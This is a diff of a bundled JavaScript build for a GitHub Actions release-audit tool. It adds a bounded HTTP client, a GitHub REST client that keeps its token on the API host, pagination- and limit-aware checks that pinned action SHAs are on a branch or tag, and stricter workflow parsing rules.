+        if (type === 'choice' && options?.kind === 'seq' && options.items.length > 0 && options.items.every((o) => o.kind === 'scalar' && o.value !== null && String(o.value).trim() !== ''))
+            continue;
+        return true;
+    }
+    return !declared;
+}
+/**
+ * Can a matrix value be empty? Not when every value listed is a non-empty name and every
+ * `include` entry either names one or only adds keys to the existing combinations (an entry
+ * that sets an original key to a new value is a new combination, without the name).
+ */
+function matrixMayBeEmpty(job, name) {
+    const m = get(job.strategy, 'matrix');
+    if (!m || m.kind !== 'map')
+        return true;
+    const nonEmpty = (n) => !!n && n.kind === 'scalar' && n.value !== null && String(n.value).trim() !== '' && !String(n.value).includes('${{');
+    const values = get(m, name);
+    if (values && !(values.kind === 'seq' && values.items.length > 0 && values.items.every(nonEmpty)))
+        return true;
+    const original = new Set(m.pairs.map((p) => String(p.key.value)).filter((k) => k !== 'include' && k !== 'exclude'));
+    const include = get(m, 'include');
+    if (include) {
+        if (include.kind !== 'seq')
+            return true;
+        for (const it of include.items) {
+            if (it.kind !== 'map')
+                return true;
+            if (get(it, name)) {
+                if (!nonEmpty(get(it, name)))
+                    return true;
+            }
+            else if (!values || it.pairs.some((p) => original.has(String(p.key.value))))
+                return true;
+        }
+    }
+    return !values && !include;
+}
+/**
+ * Can an environment name written with an expression evaluate to empty? Text around the
+ * expression, a non-empty literal fallback (`|| 'pypi'`), a choice or environment input, or a
+ * matrix of non-empty names cannot; anything else (`vars.X`, `secrets.X`, outputs) can.
+ */
+function mayBeEmpty(name, wf, job) {
+    const t = name.trim();
+    if (!t.includes('${{'))
+        return false;
+    const m = /^\$\{\{([^}]*)\}\}$/.exec(t);
+    // text around the expressions is never empty; expressions side by side can all be
+    if (!m)
+        return t.replace(/\$\{\{(?:(?!\$\{\{)[^}])*\}\}/g, '').trim() === '';
+    const e = m[1].trim();
+    const alts = disjuncts(e);
+    const last = alts[alts.length - 1];
+    if (NON_EMPTY_LITERAL.test(last))
+        return false;
+    if (alts.length > 1)
+        return true;
+    if (/^format\(\s*'[^'{]/i.test(e))
+        return false;
+    const input = /^(?:inputs|github\.event\.inputs)\.([\w-]+)$/i.exec(e);
+    if (input)
+        return inputMayBeEmpty(wf, input[1]);
+    const matrix = /^matrix\.([\w-]+)$/i.exec(e);
+    if (matrix)
+        return matrixMayBeEmpty(job, matrix[1]);
+    return true;
 }
 /** Parse source text into a model; throws InputError for unreadable YAML. */
 function parseWorkflow(source, file) {
@@ -33684,10 +36888,439 @@ async function resolveScope(wf, scope, local, o) {
     return { roots, nodes: r.all(), failures, contentRequests: r.contentRequests };
 }
 
+;// CONCATENATED MODULE: external "node:fs"
+const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+// EXTERNAL MODULE: external "node:http"
+var external_node_http_ = __nccwpck_require__(7067);
+var external_node_http_default = /*#__PURE__*/__nccwpck_require__.n(external_node_http_);
+;// CONCATENATED MODULE: external "node:https"
+const external_node_https_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:https");
+var external_node_https_default = /*#__PURE__*/__nccwpck_require__.n(external_node_https_namespaceObject);
+;// CONCATENATED MODULE: ./src/resolve/http.ts
+/**
+ * One HTTP(S) GET over node:http/https with keep-alive: no lazy-loaded fetch stack on the
+ * first request, connections reused across the run. Redirects are returned, not followed (the
+ * caller decides where the token may go); bodies are capped while they stream in. Large
+ * bodies (artifacts, tarballs) stream to a file instead, with their own limit and an idle
+ * timeout rather than a total one.
+ */
+
+
+
+
+class BodyTooLarge extends Error {
+}
+class Timeout extends Error {
+}
+/**
+ * Connections come from @actions/http-client's agents, which honour `HTTPS_PROXY`/`HTTP_PROXY`
+ * and `NO_PROXY` as the runner documents them (a CONNECT tunnel through the proxy; loopback is
+ * never proxied), with keep-alive. The proxy variables are read for each request.
+ */
+const clients = new Map();
+function agentFor(u) {
+    // one client per scheme: a client keeps one proxy agent, made for the scheme it first saw
+    let c = clients.get(u.protocol);
+    if (!c)
+        clients.set(u.protocol, (c = new lib_HttpClient('release-gate', [], { keepAlive: true, maxSockets: 64 })));
+    return c.getAgent(u.toString());
+}
+function http_get(url, headers, timeoutMs, maxBytes) {
+    const u = new URL(url);
+    const mod = u.protocol === 'https:' ? (external_node_https_default()) : u.protocol === 'http:' ? (external_node_http_default()) : undefined;
+    if (!mod)
+        return Promise.reject(new Error(`unsupported protocol ${u.protocol}`));
+    return new Promise((resolve, reject) => {
+        let done = false;
+        const finish = (f) => {
+            if (done)
+                return;
+            done = true;
+            clearTimeout(timer);
+            f();
+        };
+        const req = mod.get(u, { headers, agent: agentFor(u) }, (res) => {
+            const status = res.statusCode ?? 0;
+            const h = { get: (n) => { const v = res.headers[n.toLowerCase()]; return v === undefined ? null : Array.isArray(v) ? v.join(', ') : String(v); } };
+            if (status >= 300 && status < 400) {
+                res.resume();
+                finish(() => resolve({ status, headers: h, body: Buffer.alloc(0) }));
+                return;
+            }
+            const len = Number(res.headers['content-length'] ?? '0');
+            if (len > maxBytes) {
+                finish(() => reject(new BodyTooLarge(`${len} bytes, over the ${maxBytes}-byte limit`)));
+                res.destroy();
+                return;
+            }
+            const chunks = [];
+            let total = 0;
+            res.on('data', (c) => {
+                total += c.length;
+                if (total > maxBytes) {
+                    finish(() => reject(new BodyTooLarge(`over the ${maxBytes}-byte limit`)));
+                    res.destroy();
+                    return;
+                }
+                chunks.push(c);
+            });
+            res.on('end', () => finish(() => resolve({ status, headers: h, body: Buffer.concat(chunks) })));
+            res.on('aborted', () => finish(() => reject(new Error('the connection closed before the body was complete'))));
+            res.on('error', (e) => finish(() => reject(e)));
+            res.on('close', () => {
+                if (!res.complete)
+                    finish(() => reject(new Error('the connection closed before the body was complete')));
+            });
+        });
+        const timer = setTimeout(() => {
+            req.destroy();
+            finish(() => reject(new Timeout(`no answer within ${timeoutMs} ms`)));
+        }, timeoutMs);
+        req.on('error', (e) => finish(() => reject(e)));
+    });
+}
+/**
+ * GET into `file`: a 2xx body streams to disk (never held in memory), capped at `maxBytes`;
+ * redirects are returned; other statuses keep up to 64 KiB of body for the error message.
+ * `idleMs` bounds the time without any data, not the whole transfer.
+ */
+function getToFile(url, headers, idleMs, maxBytes, file) {
+    const u = new URL(url);
+    const mod = u.protocol === 'https:' ? (external_node_https_default()) : u.protocol === 'http:' ? (external_node_http_default()) : undefined;
+    if (!mod)
+        return Promise.reject(new Error(`unsupported protocol ${u.protocol}`));
+    return new Promise((resolve, reject) => {
+        let done = false;
+        let timer;
+        const finish = (f) => {
+            if (done)
+                return;
+            done = true;
+            clearTimeout(timer);
+            f();
+        };
+        const idle = () => {
+            clearTimeout(timer);
+            timer = setTimeout(() => {
+                req.destroy();
+                finish(() => reject(new Timeout(`no data for ${idleMs} ms`)));
+            }, idleMs);
+        };
+        const req = mod.get(u, { headers, agent: agentFor(u) }, (res) => {
+            idle();
+            const status = res.statusCode ?? 0;
+            const h = { get: (n) => { const v = res.headers[n.toLowerCase()]; return v === undefined ? null : Array.isArray(v) ? v.join(', ') : String(v); } };
+            if (status < 200 || status >= 300) {
+                const chunks = [];
+                let total = 0;
+                res.on('data', (c) => {
+                    idle();
+                    if (total < 65_536)
+                        chunks.push(c);
+                    total += c.length;
+                });
+                res.on('end', () => finish(() => resolve({ status, headers: h, body: Buffer.concat(chunks).subarray(0, 65_536), bytes: 0 })));
+                res.on('error', (e) => finish(() => reject(e)));
+                return;
+            }
+            const len = Number(res.headers['content-length'] ?? '0');
+            if (len > maxBytes) {
+                finish(() => reject(new BodyTooLarge(`${len} bytes, over the ${maxBytes}-byte limit`)));
+                res.destroy();
+                return;
+            }
+            const out = (0,external_node_fs_namespaceObject.createWriteStream)(file);
+            let total = 0;
+            const fail = (e) => {
+                // settle first: destroying the response emits 'aborted'/'close', which would report a cut connection
+                finish(() => reject(e));
+                res.destroy();
+                out.destroy();
+            };
+            out.on('error', fail);
+            res.on('data', (c) => {
+                idle();
+                total += c.length;
+                if (total > maxBytes)
+                    return fail(new BodyTooLarge(`over the ${maxBytes}-byte limit`));
+                if (!out.write(c)) {
+                    res.pause();
+                    out.once('drain', () => res.resume());
+                }
+            });
+            res.on('end', () => {
+                if (!res.complete)
+                    return fail(new Error('the connection closed before the body was complete'));
+                out.end(() => finish(() => resolve({ status, headers: h, body: Buffer.alloc(0), bytes: total })));
+            });
+            res.on('aborted', () => fail(new Error('the connection closed before the body was complete')));
+            res.on('error', fail);
+            res.on('close', () => {
+                if (!res.complete)
+                    fail(new Error('the connection closed before the body was complete'));
+            });
+        });
+        idle();
+        req.on('error', (e) => finish(() => reject(e)));
+    });
+}
+
+;// CONCATENATED MODULE: ./src/resolve/github.ts
+/**
+ * A small GitHub REST client: timeouts on every request, bounded retries with backoff on
+ * 5xx/429 and rate limits (within a total time budget), redirects followed without the token
+ * when they leave the API's host, capped response sizes, and a request count for the report.
+ * The token never appears in an error message.
+ */
+
+
+class ApiError extends Error {
+    status;
+    url;
+    transient;
+    constructor(message, status, url, 
+    /** True when trying again later may succeed (5xx, rate limit, network). */
+    transient) {
+        super(message);
+        this.status = status;
+        this.url = url;
+        this.transient = transient;
+        this.name = 'ApiError';
+    }
+}
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+class GitHubApi {
+    baseUrl;
+    token;
+    timeoutMs;
+    retries;
+    backoffMs;
+    maxBytes;
+    deadline;
+    userAgent;
+    /** Requests sent, retries and redirects included. */
+    requests = 0;
+    constructor(o) {
+        this.baseUrl = o.baseUrl.replace(/\/+$/, '');
+        if (o.token)
+            this.token = o.token;
+        this.timeoutMs = o.timeoutMs ?? 15_000;
+        this.retries = o.retries ?? 3;
+        this.backoffMs = o.backoffMs ?? 300;
+        this.maxBytes = o.maxBytes ?? 16 * 1024 * 1024;
+        this.deadline = Date.now() + (o.budgetMs ?? 120_000);
+        this.userAgent = o.userAgent ?? 'release-gate';
+    }
+    url(path) {
+        return /^https?:\/\//.test(path) ? path : `${this.baseUrl}${path.startsWith('/') ? '' : '/'}${path}`;
+    }
+    /** Display form of a URL: path and query only, never credentials. */
+    show(u) {
+        try {
+            const x = new URL(u);
+            return `${x.pathname}${x.search}`;
+        }
+        catch {
+            return u;
+        }
+    }
+    /** How long to wait before retrying a response, or undefined when it should not be retried. */
+    retryDelay(res, attempt) {
+        const retryAfter = res.headers.get('retry-after');
+        const remaining = res.headers.get('x-ratelimit-remaining');
+        const reset = res.headers.get('x-ratelimit-reset');
+        if (res.status === 429 || res.status === 403) {
+            if (retryAfter && /^\d+$/.test(retryAfter))
+                return Number(retryAfter) * 1000;
+            if (remaining === '0' && reset && /^\d+$/.test(reset))
+                return Math.max(0, Number(reset) * 1000 - Date.now()) + 1000;
+            if (res.status === 429)
+                return this.backoffMs * 2 ** attempt;
+            return undefined; // a plain 403 is a permission problem, not a transient one
+        }
+        if (res.status >= 500)
+            return this.backoffMs * 2 ** attempt;
+        return undefined;
+    }
+    /** One GET with retries and redirects; returns the final response and its body. */
+    request(path, accept = 'application/vnd.github+json') {
+        return this.send(path, accept, (url, headers, timeoutMs) => http_get(url, headers, timeoutMs, this.maxBytes));
+    }
+    /**
+     * GET a large body (an artifact, a tarball) straight into `file`, with its own size limit;
+     * same retries, redirects and token rules as `request`. Non-2xx answers throw ApiError.
+     */
+    async download(path, file, maxBytes, accept = 'application/vnd.github+json') {
+        const r = await this.send(path, accept, (url, headers, timeoutMs) => getToFile(url, headers, timeoutMs, maxBytes, file));
+        if (r.status < 200 || r.status >= 300)
+            throw this.httpError(r);
+        return { bytes: r.bytes, url: r.url };
+    }
+    async send(path, accept, one) {
+        let url = this.url(path);
+        const origin = new URL(this.baseUrl).origin;
+        let attempt = 0;
+        let redirects = 0;
+        for (;;) {
+            const sameHost = new URL(url).origin === origin;
+            const headers = {
+                accept,
+                'user-agent': this.userAgent,
+                'x-github-api-version': '2022-11-28',
+            };
+            if (this.token && sameHost)
+                headers.authorization = `Bearer ${this.token}`;
+            const remainingBudget = this.deadline - Date.now();
+            if (remainingBudget <= 0) {
+                throw new ApiError(`time budget for GitHub API requests used up before ${this.show(url)}`, undefined, url, true);
+            }
+            this.requests++;
+            let res;
+            try {
+                res = await one(url, headers, Math.min(this.timeoutMs, remainingBudget));
+            }
+            catch (e) {
+                if (e instanceof BodyTooLarge)
+                    throw new ApiError(`the response to ${this.show(url)} is ${e.message}`, undefined, url, false);
+                const why = e instanceof Timeout ? e.message : e instanceof Error ? e.message : String(e);
+                if (attempt < this.retries && Date.now() + this.backoffMs * 2 ** attempt < this.deadline) {
+                    await sleep(this.backoffMs * 2 ** attempt);
+                    attempt++;
+                    continue;
+                }
+                throw new ApiError(`GET ${this.show(url)} failed: ${why}`, undefined, url, true);
+            }
+            if ([301, 302, 303, 307, 308].includes(res.status)) {
+                const loc = res.headers.get('location');
+                if (!loc || ++redirects > 5)
+                    throw new ApiError(`GET ${this.show(url)}: too many redirects or no Location`, res.status, url, false);
+                url = new URL(loc, url).toString();
+                continue;
+            }
+            const delay = this.retryDelay(res, attempt);
+            if (delay !== undefined && attempt < this.retries) {
+                if (Date.now() + delay >= this.deadline) {
+                    throw new ApiError(`GET ${this.show(url)}: HTTP ${res.status}${res.headers.get('x-ratelimit-remaining') === '0' ? ' (rate limit reached)' : ''}; waiting ${Math.ceil(delay / 1000)} s would exceed the time budget`, res.status, url, true);
+                }
+                await sleep(delay);
+                attempt++;
+                continue;
+            }
+            return Object.assign(res, { url });
+        }
+    }
+    /** GET a JSON document; 404 gives `undefined`, other failures throw ApiError. */
+    async getJson(path) {
+        const r = await this.request(path);
+        if (r.status === 404)
+            return undefined;
+        if (r.status < 200 || r.status >= 300)
+            throw this.httpError(r);
+        try {
+            return { status: r.status, data: JSON.parse(r.body.toString('utf8')), headers: r.headers };
+        }
+        catch {
+            throw new ApiError(`GET ${this.show(r.url)}: the response is not valid JSON`, r.status, r.url, true);
+        }
+    }
+    /**
+     * Every item of a list endpoint, following `Link: <…>; rel="next"` (at most `maxPages` pages of
+     * 100, and only to the API's own origin). `complete` is false when pages were left unread; an
+     * endpoint that wraps its list (`{ total_count, branch_policies: [...] }`) names the key.
+     * Returns undefined when the first page is 404.
+     */
+    async getPaged(path, o = {}) {
+        const maxPages = o.maxPages ?? 10;
+        const items = [];
+        let url = this.url(path);
+        if (!/[?&]per_page=/.test(url))
+            url += `${url.includes('?') ? '&' : '?'}per_page=100`;
+        const origin = new URL(this.baseUrl).origin;
+        for (let pages = 1;; pages++) {
+            const r = await this.getJson(url);
+            if (!r) {
+                if (pages === 1)
+                    return undefined;
+                throw new ApiError(`GET ${this.show(url)}: page ${pages} is gone (HTTP 404)`, 404, url, true);
+            }
+            const list = o.key ? r.data?.[o.key] : r.data;
+            if (!Array.isArray(list))
+                throw new ApiError(`GET ${this.show(url)}: expected a list${o.key ? ` in '${o.key}'` : ''}`, r.status, url, false);
+            items.push(...list);
+            const next = nextLink(r.headers.get('link'));
+            if (!next)
+                return { items, complete: true, pages };
+            const nextUrl = new URL(next, url);
+            if (nextUrl.origin !== origin)
+                throw new ApiError(`GET ${this.show(url)}: the next page is on another host (${nextUrl.host})`, r.status, url, false);
+            if (pages >= maxPages)
+                return { items, complete: false, pages };
+            url = nextUrl.toString();
+        }
+    }
+    httpError(r) {
+        let msg = '';
+        try {
+            msg = JSON.parse(r.body.toString('utf8')).message ?? '';
+        }
+        catch {
+            /* not JSON */
+        }
+        const limited = r.headers.get('x-ratelimit-remaining') === '0';
+        const hint = r.status === 401
+            ? ' (the token was refused)'
+            : r.status === 403 && limited
+                ? ' (rate limit reached)'
+                : r.status === 403
+                    ? ' (the token lacks a permission: give the job `contents: read`)'
+                    : '';
+        return new ApiError(`GET ${this.show(r.url)}: HTTP ${r.status}${hint}${msg ? `: ${msg.slice(0, 200)}` : ''}`, r.status, r.url, r.status >= 500 || r.status === 429 || limited);
+    }
+    /**
+     * A file's text at a ref through the contents API. Returns `undefined` when the file does
+     * not exist at that ref; throws for directories, submodules and other failures.
+     */
+    async getFile(owner, repo, path, ref) {
+        const p = `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}/contents/${path.split('/').map(encodeURIComponent).join('/')}?ref=${encodeURIComponent(ref)}`;
+        const r = await this.getJson(p);
+        if (!r)
+            return undefined;
+        const d = r.data;
+        if (Array.isArray(d))
+            throw new ApiError(`${owner}/${repo}/${path} at ${ref} is a directory, not a file`, r.status, p, false);
+        const o = d;
+        if (o.type && o.type !== 'file')
+            throw new ApiError(`${owner}/${repo}/${path} at ${ref} is a ${o.type}, not a file`, r.status, p, false);
+        if (o.encoding === 'base64' && typeof o.content === 'string')
+            return decodeUtf8(Buffer.from(o.content, 'base64'), `${owner}/${repo}/${path}`);
+        // Files of 1-100 MB come back with encoding "none": ask for the raw bytes.
+        const raw = await this.request(p, 'application/vnd.github.raw+json');
+        if (raw.status === 404)
+            return undefined;
+        if (raw.status !== 200)
+            throw this.httpError(raw);
+        return decodeUtf8(raw.body, `${owner}/${repo}/${path}`);
+    }
+}
+/** The `rel="next"` URL of a `Link` header (RFC 8288, as GitHub sends it). */
+function nextLink(link) {
+    if (!link)
+        return undefined;
+    for (const part of link.split(',')) {
+        const m = /^\s*<([^>]*)>\s*;(.*)$/.exec(part);
+        if (m && /(^|;)\s*rel\s*=\s*"?([^";]*\s)?next(\s[^";]*)?"?\s*(;|$)/i.test(m[2]))
+            return m[1];
+    }
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./src/resolve/online.ts
 
 
 
+
+/** Bounds of the reachability search: pages of 100 refs listed, `compare` requests made. */
+const REACH_LIMITS = { pages: 10, compares: 20 };
 /** A `# v1.2.3` comment on the line of a `uses:`. */
 function versionComment(wf, line) {
     const c = wf ? trailingComment(wf.source, wf.yaml.lineCounter.lineStarts, line) : undefined;
@@ -33700,6 +37333,7 @@ class OnlineChecks {
     pool;
     tagsOf = new Memo();
     branchesOf = new Memo();
+    tagMemo = new Memo();
     repoInfo = new Memo();
     reachMemo = new Memo();
     advMemo = new Memo();
@@ -33714,35 +37348,65 @@ class OnlineChecks {
     get(path) {
         return this.pool.run(() => this.api.getJson(path));
     }
+    list(memo, owner, repo, what) {
+        return memo.get(`${owner}/${repo}`.toLowerCase(), async () => {
+            const r = await this.pool.run(() => this.api.getPaged(`/repos/${owner}/${repo}/${what}?per_page=100`, { maxPages: REACH_LIMITS.pages }));
+            return r ? { items: r.items, complete: r.complete } : { items: [], complete: true };
+        });
+    }
     listTags(owner, repo) {
-        return this.tagsOf.get(`${owner}/${repo}`.toLowerCase(), async () => (await this.get(`/repos/${owner}/${repo}/tags?per_page=100`))?.data ?? []);
+        return this.list(this.tagsOf, owner, repo, 'tags');
     }
     listBranches(owner, repo) {
-        return this.branchesOf.get(`${owner}/${repo}`.toLowerCase(), async () => (await this.get(`/repos/${owner}/${repo}/branches?per_page=100`))?.data ?? []);
+        return this.list(this.branchesOf, owner, repo, 'branches');
+    }
+    /** Does `ref` contain `sha`? (`compare/{ref}...{sha}` is `behind` or `identical`.) */
+    async contains(owner, repo, ref, sha) {
+        const cmp = await this.get(`/repos/${owner}/${repo}/compare/${encodeURIComponent(ref)}...${sha}`);
+        return !!cmp && (cmp.data.status === 'behind' || cmp.data.status === 'identical');
     }
     /**
      * Is `sha` reachable from a branch or tag of owner/repo? The commits endpoint answers for
-     * any commit of the fork network, so: tips first, then `compare/{ref}...{sha}`
-     * (`behind`/`identical` = the ref contains it) on the default branch, then tags and branches.
+     * any commit of the fork network, so: the pin's own version-comment tag first (one lookup),
+     * then the default branch, then every tag and branch tip (listed page by page, bounded), then
+     * `compare` against the default branch, the other branches, then tags (bounded). "Not reachable" is only said
+     * when every ref was looked at; otherwise the answer is an error naming what was not.
      */
-    reach(owner, repo, sha) {
-        return this.reachMemo.get(`${owner}/${repo}@${sha}`.toLowerCase(), async () => {
+    reach(owner, repo, sha, hint) {
+        return this.reachMemo.get(`${owner}/${repo}@${sha}@${hint ?? ''}`.toLowerCase(), async () => {
             try {
+                const want = sha.toLowerCase();
+                if (hint) {
+                    const t = await this.tagCommit(owner, repo, hint);
+                    if ('sha' in t && t.sha.toLowerCase() === want)
+                        return { reachable: true, via: `tag ${hint}` };
+                    if ('sha' in t && (await this.contains(owner, repo, hint, sha)))
+                        return { reachable: true, via: `tag ${hint}` };
+                }
+                const info = await this.repoInfo.get(`${owner}/${repo}`.toLowerCase(), async () => (await this.get(`/repos/${owner}/${repo}`))?.data);
                 const [tags, branches] = await Promise.all([this.listTags(owner, repo), this.listBranches(owner, repo)]);
-                const tip = [...tags.map((t) => ({ ...t, kind: 'tag' })), ...branches.map((b) => ({ ...b, kind: 'branch' }))].find((t) => t.commit?.sha?.toLowerCase() === sha.toLowerCase());
+                const tip = [...tags.items.map((t) => ({ ...t, kind: 'tag' })), ...branches.items.map((b) => ({ ...b, kind: 'branch' }))].find((t) => t.commit?.sha?.toLowerCase() === want);
                 if (tip)
                     return { reachable: true, via: `${tip.kind} ${tip.name}` };
-                const info = await this.repoInfo.get(`${owner}/${repo}`.toLowerCase(), async () => (await this.get(`/repos/${owner}/${repo}`))?.data);
+                // branches first (few, and maintenance lines hold most released commits), then tags
                 const candidates = [
-                    ...(info?.default_branch ? [{ name: info.default_branch, kind: 'branch' }] : []),
-                    ...tags.slice(0, 10).map((t) => ({ name: t.name, kind: 'tag' })),
-                    ...branches.filter((b) => b.name !== info?.default_branch).slice(0, 10).map((b) => ({ name: b.name, kind: 'branch' })),
+                    ...(info?.default_branch ? [{ name: info.default_branch, kind: 'branch', ref: info.default_branch }] : []),
+                    ...branches.items.filter((b) => b.name !== info?.default_branch).map((b) => ({ name: b.name, kind: 'branch', ref: b.name })),
+                    ...tags.items.filter((t) => t.name !== hint).map((t) => ({ name: t.name, kind: 'tag', ref: t.name })),
                 ];
-                for (const c of candidates) {
-                    const cmp = await this.get(`/repos/${owner}/${repo}/compare/${encodeURIComponent(c.name)}...${sha}`);
-                    if (cmp && (cmp.data.status === 'behind' || cmp.data.status === 'identical'))
+                for (const c of candidates.slice(0, REACH_LIMITS.compares)) {
+                    if (await this.contains(owner, repo, c.ref, sha))
                         return { reachable: true, via: `${c.kind} ${c.name}` };
                 }
+                const notLooked = [];
+                if (candidates.length > REACH_LIMITS.compares)
+                    notLooked.push(`${candidates.length - REACH_LIMITS.compares} of its ${candidates.length} branches and tags were not compared (limit ${REACH_LIMITS.compares})`);
+                if (!tags.complete)
+                    notLooked.push(`tags after the first ${tags.items.length} were not listed`);
+                if (!branches.complete)
+                    notLooked.push(`branches after the first ${branches.items.length} were not listed`);
+                if (notLooked.length)
+                    return { error: `no branch or tag looked at contains it, but ${notLooked.join('; ')}` };
                 return { reachable: false };
             }
             catch (e) {
@@ -33758,7 +37422,7 @@ class OnlineChecks {
         const full = (v) => /^v?\d+\.\d+(\.\d+)?([-+][\w.-]+)?$/.test(v);
         try {
             const tags = await this.listTags(owner, repo);
-            const at = tags.filter((t) => t.commit?.sha?.toLowerCase() === sha.toLowerCase() && /^v?\d/.test(t.name)).map((t) => t.name);
+            const at = tags.items.filter((t) => t.commit?.sha?.toLowerCase() === sha.toLowerCase() && /^v?\d/.test(t.name)).map((t) => t.name);
             const best = at.filter(full).sort((a, b) => b.length - a.length)[0];
             if (best)
                 return best;
@@ -33768,18 +37432,27 @@ class OnlineChecks {
         }
         return hint && full(hint) ? hint : undefined;
     }
-    async tagCommit(owner, repo, tag) {
-        try {
-            const tags = await this.listTags(owner, repo);
-            const t = tags.find((x) => x.name === tag);
-            if (t)
-                return { sha: t.commit.sha };
-            const sha = this.resolver ? await this.resolver.commitOf(owner, repo, `refs/tags/${tag}`).catch(() => undefined) : undefined;
-            return sha ? { sha } : { error: `${owner}/${repo} has no tag ${tag}` };
-        }
-        catch (e) {
-            return { error: e instanceof Error ? e.message : String(e) };
-        }
+    /**
+     * The commit a tag names, looked up directly (`GET /repos/{o}/{r}/commits/tags/{tag}` peels
+     * annotated tags). GitHub's "no such ref" (404, or 422 "No commit found") is `absent`; any
+     * other failure is an error, never a statement about the tag.
+     */
+    tagCommit(owner, repo, tag) {
+        return this.tagMemo.get(`${owner}/${repo}@${tag}`.toLowerCase(), async () => {
+            try {
+                const r = await this.get(`/repos/${owner}/${repo}/commits/tags/${tag.split('/').map(encodeURIComponent).join('/')}`);
+                if (!r)
+                    return { absent: true };
+                if (typeof r.data.sha !== 'string')
+                    return { error: `GitHub's answer for tag ${tag} of ${owner}/${repo} has no commit SHA` };
+                return { sha: r.data.sha };
+            }
+            catch (e) {
+                if (e instanceof ApiError && e.status === 422)
+                    return { absent: true };
+                return { error: e instanceof Error ? e.message : String(e) };
+            }
+        });
     }
     async environment(owner, repo, name) {
         try {
@@ -33794,8 +37467,10 @@ class OnlineChecks {
             if (dbp?.protected_branches)
                 branchPolicy = { kind: 'protected', patterns: [] };
             else if (dbp?.custom_branch_policies) {
-                const p = await this.get(`/repos/${owner}/${repo}/environments/${encodeURIComponent(name)}/deployment-branch-policies?per_page=100`);
-                branchPolicy = { kind: 'custom', patterns: (p?.data.branch_policies ?? []).map((b) => ({ name: b.name, type: b.type ?? 'branch' })) };
+                const p = await this.pool.run(() => this.api.getPaged(`/repos/${owner}/${repo}/environments/${encodeURIComponent(name)}/deployment-branch-policies?per_page=100`, { key: 'branch_policies', maxPages: REACH_LIMITS.pages }));
+                if (p && !p.complete)
+                    return { error: `environment '${name}' has more than ${p.items.length} deployment branch policies; the rest were not read` };
+                branchPolicy = { kind: 'custom', patterns: (p?.items ?? []).map((b) => ({ name: b.name, type: b.type ?? 'branch' })) };
             }
             return {
                 name,
@@ -33869,7 +37544,7 @@ async function gatherOnline(checks, res, files, env) {
         if (/^[0-9a-f]{40}$/i.test(pin.ref)) {
             if (!seen.has(k)) {
                 seen.add(k);
-                jobs.push(checks.reach(pin.owner, pin.repo, pin.sha).then((r) => {
+                jobs.push(checks.reach(pin.owner, pin.repo, pin.sha, pin.comment).then((r) => {
                     facts.reach.set(k, r);
                     if ('error' in r)
                         fail(`verify that ${pin.owner}/${pin.repo}@${pin.sha.slice(0, 12)} is on a branch or tag`, r.error, pin);
@@ -33878,7 +37553,11 @@ async function gatherOnline(checks, res, files, env) {
             const tk = pin.comment ? `${repoKey}@${pin.comment}` : undefined;
             if (tk && !seen.has(`tag:${tk}`)) {
                 seen.add(`tag:${tk}`);
-                jobs.push(checks.tagCommit(pin.owner, pin.repo, pin.comment).then((t) => void facts.tags.set(tk, t)));
+                jobs.push(checks.tagCommit(pin.owner, pin.repo, pin.comment).then((t) => {
+                    facts.tags.set(tk, t);
+                    if ('error' in t)
+                        fail(`look up tag ${pin.comment} of ${pin.owner}/${pin.repo} (the pin's version comment)`, t.error, pin);
+                }));
             }
         }
         if (seen.has(`ver:${k}`))
@@ -33977,7 +37656,7 @@ const integrity_mismatch_rule = {
                 ? { file: root.file, at: root.uses.pos, job: root.job, ...(root.step ? { step: root.step } : {}) }
                 : { at: gate?.pos ?? { line: 1, column: 1 }, ...(gate ? { job: gate.id } : {}) };
             const what = r.method === 'gha.sum'
-                ? `its h1 checksum is ${code(r.actual ?? '?')}, gha.sum records ${code(r.expected ?? '?')}`
+                ? `its ghasum checksum is ${code(r.actual ?? '?')}, gha.sum records ${code(r.expected ?? '?')}`
                 : [list('changed', r.changed), list('missing', r.missing), list('extra', r.extra)].filter(Boolean).join('; ') + ` against commit ${code((r.commit ?? '').slice(0, 12))}`;
             out.push(ctx.finding({
                 ...at,
@@ -33996,11 +37675,27 @@ const invalid_workflow_rule = {
     title: 'value of the wrong type or shape',
     severity: 'error',
     check(ctx) {
-        return ctx.workflow.problems.map((p) => ctx.finding({
-            message: p.message,
-            fix: 'Correct the value so the file matches GitHub\'s workflow syntax (docs.github.com › "Workflow syntax for GitHub Actions").',
-            at: p.pos,
-        }));
+        const fix = 'Correct the value so the file matches GitHub\'s workflow syntax (docs.github.com › "Workflow syntax for GitHub Actions").';
+        const out = ctx.workflow.problems.map((p) => ctx.finding({ message: p.message, fix, at: p.pos }));
+        if (ctx.workflow.kind !== 'workflow')
+            return out;
+        // GitHub's own parser (from the CLI): what it refuses, GitHub does not run. Inside a
+        // running job GitHub has accepted the file already; should a parser be supplied there, a
+        // difference is the bundled parser lagging GitHub's language, which must not block.
+        if (!ctx.githubParser)
+            return out;
+        const ours = new Set(ctx.workflow.problems.map((p) => p.pos.line));
+        for (const p of ctx.githubParser(ctx.workflow.source, ctx.workflow.file)) {
+            if (ours.has(p.pos.line))
+                continue;
+            out.push(ctx.finding({
+                message: `GitHub's workflow parser refuses this: ${p.message}`,
+                fix: ctx.runtime ? 'GitHub ran this workflow, so its language has moved past the parser release-gate bundles; report it so the parser is updated.' : fix,
+                at: p.pos,
+                ...(ctx.runtime ? { severity: 'warning' } : {}),
+            }));
+        }
+        return out;
     },
 };
 
@@ -34046,13 +37741,108 @@ const known_vulnerable_actions_rule = {
     },
 };
 
+;// CONCATENATED MODULE: ./src/workflow/scope.ts
+/**
+ * Which jobs are audited: the job running the gate (or, from the CLI, each publishing job)
+ * and every job it needs, transitively — they build what is published.
+ */
+
+
+function needsClosure(wf, roots) {
+    const byId = new Map(wf.jobs.map((j) => [j.id, j]));
+    const seen = new Set();
+    const stack = roots.map((r) => r.id);
+    while (stack.length) {
+        const id = stack.pop();
+        if (seen.has(id))
+            continue;
+        seen.add(id);
+        for (const n of byId.get(id)?.needs ?? [])
+            if (byId.has(n.value))
+                stack.push(n.value);
+    }
+    return wf.jobs.filter((j) => seen.has(j.id));
+}
+/**
+ * Does a job publish, its own steps or, seen through the call, a local reusable workflow's
+ * jobs (when that file was loaded)?
+ */
+function publishesThrough(wf, job, local, depth = 0) {
+    if (isPublishingJob(wf, job))
+        return true;
+    const u = job.uses?.parsed;
